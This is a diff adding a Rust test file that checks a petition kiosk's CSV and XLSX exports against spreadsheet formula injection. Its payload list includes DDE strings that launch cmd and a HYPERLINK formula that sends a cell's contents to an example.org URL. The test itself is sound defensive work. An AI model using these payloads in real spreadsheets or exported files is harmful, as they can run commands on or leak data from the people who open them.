@@ -1,0 +1,164 @@
+//! No cell of a list becomes a formula in a spreadsheet.
+
+use ledger::Record;
+use petition_kiosk::export::Format;
+use serde_json::json;
+
+use super::{book, exported, record, table};
+
+/// The formulas that OWASP's page on CSV injection lists, and others that were seen in the wild.
+fn formulas() -> Vec<String> {
+    let begins = [
+        "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", "\0=", "\u{b}=",
+    ];
+    let before = [
+        "", " ", "   ", "\u{a0}", "\u{3000}", "\"", "\"\"", "'", " \" ", "’", "\u{200b}",
+        "\u{feff}", "\u{202e}",
+    ];
+    let breaks = [
+        "",
+        "x;",
+        "x,",
+        "x\t",
+        "x\n",
+        "x\"\n",
+        "x\";",
+        "x\",\"",
+        "x\u{2028}",
+    ];
+    let mut all = vec![
+        "=1+1".to_owned(),
+        "=cmd|' /C calc'!A0".to_owned(),
+        "=DDE(\"cmd\";\"/C calc\";\"!A0\")".to_owned(),
+        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
+        "=HYPERLINK(\"https://example.org?\"&A1,\"x\")".to_owned(),
+        "=1+2\";=1+2".to_owned(),
+        "=1+2'\" ;,=1+2".to_owned(),
+    ];
+    for begin in begins {
+        for before in before {
+            all.extend(
+                breaks
+                    .iter()
+                    .map(|broken| format!("{broken}{before}{begin}1+1")),
+            );
+        }
+    }
+    all
+}
+
+/// A signer who typed this text into every field.
+fn attacker(seq: u64, text: &str) -> Record {
+    record(
+        seq,
+        json!({
+            "given_name": text, "family_name": text, "email": text, "zip": text, "city": text, "state": text, "street": text,
+            "phone": text, "comment": text, "language": text, "consents": ["email", "sms", "ally"],
+        }),
+    )
+}
+
+/// Returns true when a spreadsheet that ignores blanks, quotes and invisible characters would run a
+/// cell. An apostrophe makes the cell text.
+fn is_run(cell: &str) -> bool {
+    let is_ignored = |c: char| {
+        c.is_whitespace()
+            || c.is_control()
+            || "\"“”„’‘".contains(c)
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}')
+    };
+    cell.trim_start_matches(is_ignored)
+        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+#[test]
+fn no_cell_is_a_formula() {
+    let formulas = formulas();
+    let records: Vec<Record> = (1..)
+        .zip(&formulas)
+        .map(|(seq, text)| attacker(seq, text))
+        .collect();
+    for &format in Format::ALL {
+        for part in exported(format, &records).parts {
+            if part.name.ends_with(".xlsx") {
+                let rows = book(&part);
+                assert_eq!(rows.len(), formulas.len());
+                for (row, text) in rows.iter().zip(&formulas) {
+                    assert_eq!(row["given_name"], row["family_name"]);
+                    assert_eq!(
+                        &unescaped(&row["given_name"]),
+                        text,
+                        "a workbook keeps every letter"
+                    );
+                }
+                continue;
+            }
+            if !part.name.ends_with(".csv") {
+                continue;
+            }
+            assert!(part.guarded >= formulas.len(), "{part:?}");
+            // The file is read with commas, semicolons and tabs as separators, and without quotes.
+            for delimiter in [b',', b';', b'\t'] {
+                for quoting in [true, false] {
+                    let mut reader = csv::ReaderBuilder::new();
+                    reader
+                        .delimiter(delimiter)
+                        .quoting(quoting)
+                        .flexible(true)
+                        .has_headers(false);
+                    let mut cells = 0;
+                    for row in reader.from_reader(&part.bytes[..]).records() {
+                        for cell in &row.expect("a row") {
+                            cells += 1;
+                            assert!(
+                                !is_run(cell),
+                                "{}: {cell:?} with {:?}, {quoting}",
+                                part.name,
+                                char::from(delimiter)
+                            );
+                        }
+                    }
+                    assert!(cells >= formulas.len());
+                }
+            }
+        }
+    }
+}
+
+/// The text of a cell after a spreadsheet has undone the workbook's escapes (ECMA-376, part 1,
+/// 22.9.2.19).
+fn unescaped(cell: &str) -> String {
+    let mut text = cell.to_owned();
+    for c in ['\0', '\u{b}', '\r'] {
+        text = text.replace(&format!("_x{:04X}_", u32::from(c)), &c.to_string());
+    }
+    text
+}
+
+#[test]
+fn a_list_keeps_what_was_typed_if_it_is_no_formula() {
+    let typed = json!({
+        "given_name": "Siobhán \"Sio\"", "family_name": "O’Brien, Jr.", "email": "o'brien@example.org", "zip": "02134", "city": "Allston",
+        "state": "MA", "street": "0017 Main St; Apt 00042", "phone": "00442079460000", "comment": "Two\nlines, 12345678901234567890",
+        "consents": ["email"],
+    });
+    let record = record(1, typed.clone());
+    let lists = [
+        table(&exported(Format::Csv, std::slice::from_ref(&record)).parts[0]),
+        book(&exported(Format::Xlsx, &[record]).parts[0]),
+    ];
+    for rows in lists {
+        for (field, value) in typed
+            .as_object()
+            .expect("an object")
+            .iter()
+            .filter(|(field, _)| *field != "consents")
+        {
+            assert_eq!(rows[0][field], value.as_str().expect("a text"), "{field}");
+        }
+        assert_eq!(
+            (rows[0]["may_email"].as_str(), rows[0]["may_text"].as_str()),
+            ("yes", "no")
+        );
+    }
+}
